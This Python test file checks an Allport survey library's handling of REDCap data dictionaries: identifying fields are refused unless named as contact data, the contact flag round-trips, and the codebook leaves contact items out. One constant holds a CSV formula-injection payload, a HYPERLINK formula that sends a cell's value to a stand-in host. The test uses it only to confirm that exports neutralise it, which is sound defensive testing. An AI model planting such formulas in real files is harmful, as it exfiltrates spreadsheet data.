"""Contact items (DESIGN §8): identifying REDCap fields are refused unless named as contact data;
the ``contact`` flag round-trips through definitions, their fingerprint and REDCap; the codebook
leaves contact items out; labels imported from REDCap cannot inject formulas into CSV files."""

import csv
import io
from typing import Any

import pytest
import yaml

from instruments import DefinitionError, parse_definition
from instruments.codebook import codebook_csv, codebook_rows
from instruments.definition import dump_definition
from instruments.redcap import COLUMNS, import_redcap, redcap_csv

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


def dictionary(*fields: dict[str, str]) -> io.StringIO:
    """A data dictionary of one form, ``enrol``, with an ordinary radio field first."""
    rows = [{"Variable / Field Name": "agree", "Form Name": "enrol", "Field Type": "radio",
             "Field Label": "I agree", "Choices, Calculations, OR Slider Labels": "1, No | 2, Yes",
             "Required Field?": "y"}]
    rows += [{"Form Name": "enrol", "Field Type": "text", **f} for f in fields]
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=COLUMNS, restval="")
    writer.writeheader()
    writer.writerows(rows)
    buffer.seek(0)
    return buffer


EMAIL = {"Variable / Field Name": "email", "Field Label": "Your email",
         "Text Validation Type OR Show Slider Number": "email"}
PHONE = {"Variable / Field Name": "mobile", "Field Label": "Mobile",
         "Text Validation Type OR Show Slider Number": "phone_australia"}
NAME = {"Variable / Field Name": "full_name", "Field Label": "Your name", "Identifier?": "y"}


@pytest.mark.parametrize(("field", "why"), [
    (NAME, "marked as an identifier in REDCap (Identifier? = y)"),
    (EMAIL, "validated as email in REDCap: it holds contact details"),
    (PHONE, "validated as phone_australia in REDCap: it holds contact details"),
])
def test_an_identifying_field_is_refused_with_a_message_naming_it(field, why):
    key = field["Variable / Field Name"]
    with pytest.raises(DefinitionError) as raised:
        import_redcap(dictionary(field))
    assert str(raised.value) == (
        f"<data dictionary>: item {key!r}: {why}, so its answers would reach de-identified "
        f"research exports; leave it out of the form, or import it as contact data that is "
        f"never exported with --contact-field {key}")


def test_named_contact_fields_are_kept_as_contact_items():
    instrument = import_redcap(dictionary(NAME, EMAIL, PHONE),
                               contact_fields=["full_name", "email", "mobile"]).instrument
    assert [(i.key, i.contact) for i in instrument.items] == [
        ("agree", False), ("full_name", True), ("email", True), ("mobile", True)]
    assert [i.key for i in instrument.research_items] == ["agree"]


def test_a_contact_field_the_form_lacks_is_an_error():
    with pytest.raises(DefinitionError, match="--contact-field emial: form 'enrol' has no field"):
        import_redcap(dictionary(EMAIL), contact_fields=["emial"])


def test_the_flag_round_trips_through_yaml_redcap_and_the_fingerprint():
    instrument = import_redcap(dictionary(EMAIL), contact_fields=["email"]).instrument
    written = yaml.safe_load(dump_definition(instrument))
    assert written["items"][1] == {"key": "email", "text": "Your email", "kind": "text",
                                   "required": False, "contact": True}
    assert parse_definition(written) == instrument
    plain = dict(written, items=[written["items"][0],
                                 {k: v for k, v in written["items"][1].items() if k != "contact"}])
    assert parse_definition(plain).fingerprint != instrument.fingerprint
    # Exported to REDCap it is an identifier, and imports back as contact data without the option.
    exported = list(csv.DictReader(io.StringIO(redcap_csv(instrument))))
    assert exported[2]["Identifier?"] == "y"  # after the record ID and the first item
    again = import_redcap(io.StringIO(redcap_csv(instrument))).instrument
    assert again == instrument and again.fingerprint == instrument.fingerprint


def test_a_contact_item_cannot_be_scored_and_the_flag_is_a_boolean():
    definition: dict[str, Any] = {
        "schema": "allport.instrument/1", "id": "x", "version": "1.0", "title": "X",
        "instructions": None, "completed_by": "trainee",
        "items": [{"key": "a", "text": "A", "kind": "scale", "contact": True,
                   "choices": {"range": [1, 5]}}]}
    with pytest.raises(DefinitionError, match="item 'a': a contact item holds contact data and "
                                              "cannot be scored"):
        parse_definition(definition)
    definition["items"][0] = {"key": "a", "text": "A", "kind": "text", "contact": "yes"}
    with pytest.raises(DefinitionError, match="contact must be true or false, not 'yes'"):
        parse_definition(definition)


def test_the_codebook_leaves_contact_items_out():
    instrument = import_redcap(dictionary(EMAIL), contact_fields=["email"]).instrument
    assert [row["variable"] for row in codebook_rows(instrument)] == ["agree"]


def test_labels_imported_from_redcap_cannot_inject_formulas_into_csv_files():
    field = {"Variable / Field Name": "note", "Field Label": HOSTILE}
    instrument = import_redcap(dictionary(field)).instrument
    assert instrument.item("note").text == HOSTILE
    for text in (codebook_csv(instrument), redcap_csv(instrument)):
        for row in csv.reader(io.StringIO(text)):
            assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), row
        assert "'" + HOSTILE in text.replace('""', '"')
    # What Allport wrote, Allport reads back as it was.
    assert import_redcap(io.StringIO(redcap_csv(instrument))).instrument == instrument
